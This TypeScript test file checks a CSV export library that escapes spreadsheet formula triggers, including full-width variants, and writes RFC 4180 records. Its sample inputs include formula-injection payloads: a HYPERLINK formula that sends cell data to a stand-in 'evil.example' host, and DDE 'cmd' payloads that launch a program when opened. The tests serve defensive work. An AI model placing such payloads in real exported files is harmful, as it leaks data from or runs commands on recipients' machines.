import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { loadPolicy } from "../../loaders/disclose/policy.ts";
import { CSV_ESCAPE, csvLine, formulaStartRegex, formulaStarts, spreadsheetSafe, toCsv } from "../../src/lib/csv-safe.ts";

describe("spreadsheetSafe", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ["+44 7700 900123", "'+44 7700 900123"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1,2)", "'@SUM(1,2)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["＝1+1", "'＝1+1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(1,2)", "'＠SUM(1,2)"],
  ])("escapes %j", (cell, safe) => {
    expect(spreadsheetSafe(cell)).toBe(safe);
  });

  it("escapes text that reads as a negative number: numbers reach the CSV writer as numbers", () => {
    expect(spreadsheetSafe("-3")).toBe("'-3");
    expect(spreadsheetSafe("-0.5")).toBe("'-0.5");
  });

  it.each(["", "Peer support", "1+1", "a=b", "'quoted", " =1+1", "50%", "£-3", "[c]"])("leaves %j", (cell) => {
    expect(spreadsheetSafe(cell)).toBe(cell);
  });
});

describe("the rule", () => {
  it("is the one data/disclosure.json states, for writers with no policy at hand", () => {
    const { characters, prefix } = loadPolicy().csvEscape;
    expect(CSV_ESCAPE).toEqual({ characters, prefix });
  });

  it("adds the full-width form of each printable character", () => {
    expect(formulaStarts()).toEqual(["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]);
    expect(formulaStarts(["=", "="])).toEqual(["=", "＝"]);
  });

  it("gives a regular expression that matches exactly the text spreadsheetSafe escapes", () => {
    const regex = new RegExp(formulaStartRegex(["=", "-", "]", "^", "\\"]));
    const escape = { characters: ["=", "-", "]", "^", "\\"], prefix: "'" };
    for (let code = 0; code < 0x10000; code++) {
      const text = `${String.fromCharCode(code)}x`;
      expect(regex.test(text), text).toBe(spreadsheetSafe(text, escape) !== text);
    }
  });

  it("follows a policy's own characters and prefix", () => {
    expect(spreadsheetSafe("!x", { characters: ["!"], prefix: "^" })).toBe("^!x");
    expect(spreadsheetSafe("！x", { characters: ["!"], prefix: "^" })).toBe("^！x");
    expect(spreadsheetSafe("=x", { characters: ["!"], prefix: "^" })).toBe("=x");
  });
});

describe("csvLine", () => {
  it("escapes and quotes every cell, and ends in CRLF", () => {
    expect(csvLine(["=1+1", "x,y", '"q"', "－3", "ok"])).toBe(`'=1+1,"x,y","""q""",'－3,ok\r\n`);
  });
});

describe("toCsv", () => {
  const columns = ["id", "answer", "count", "tags"];

  it("writes a header and RFC 4180 records with CRLF", () => {
    const csv = toCsv(
      [
        { id: "a", answer: "plain", count: 3, tags: ["x", "y"] },
        { id: "b", answer: 'she said "hi", then left\nfor good', count: -3, tags: [] },
      ],
      columns,
    );
    expect(csv).toBe('id,answer,count,tags\r\na,plain,3,x; y\r\nb,"she said ""hi"", then left\nfor good",-3,\r\n');
  });

  it("escapes every formula trigger in text cells, and the CSV parses back to the escaped text", () => {
    const answers = ["=1+1", "+1", "-1", "@A1", "\tTAB", "\rCR", "-3", '=cmd|"/c calc"!A1', "ok, fine"];
    const rows = answers.map((answer, i) => ({ id: `r${i}`, answer, count: -i, tags: [answer] }));
    const csv = toCsv(rows, columns);
    const parsed = parse(csv, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
    expect(parsed.map((r) => r.answer)).toEqual(answers.map((a) => spreadsheetSafe(a)));
    expect(parsed.map((r) => r.tags)).toEqual(answers.map((a) => spreadsheetSafe(a)));
    // Numbers stay numbers: a numeric column is never a formula.
    expect(parsed.map((r) => r.count)).toEqual(answers.map((_, i) => String(i === 0 ? 0 : -i)));
    for (const record of parsed) {
      for (const text of [record.id, record.answer, record.tags]) expect(text).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("escapes the header too", () => {
    expect(toCsv([], ["=bad"])).toBe("'=bad\r\n");
  });

  it("writes empty fields for null, undefined and missing columns", () => {
    expect(toCsv([{ id: null, answer: undefined }], columns)).toBe("id,answer,count,tags\r\n,,,\r\n");
  });

  it("writes booleans, bigints, dates and UTF-8 text as they are, with no BOM unless asked", () => {
    const rows = [{ id: "é", answer: true, count: 12n, tags: new Date("2024-02-01T10:30:00Z") }];
    const csv = toCsv(rows, columns);
    expect(csv).toBe("id,answer,count,tags\r\né,true,12,2024-02-01T10:30:00.000Z\r\n");
    expect(toCsv(rows, columns, { bom: true })).toBe(`\uFEFF${csv}`);
  });

  it("escapes an array whose first item starts with a trigger", () => {
    expect(toCsv([{ tags: ["-3", "ok"] }], ["tags"])).toBe("tags\r\n'-3; ok\r\n");
  });

  it("refuses values with no CSV form", () => {
    expect(() => toCsv([{ count: Number.NaN }], ["count"])).toThrow(/row 1, column "count" is NaN/);
    expect(() => toCsv([{ answer: { a: 1 } }], ["answer"])).toThrow(/row 1, column "answer" holds an object/);
  });
});
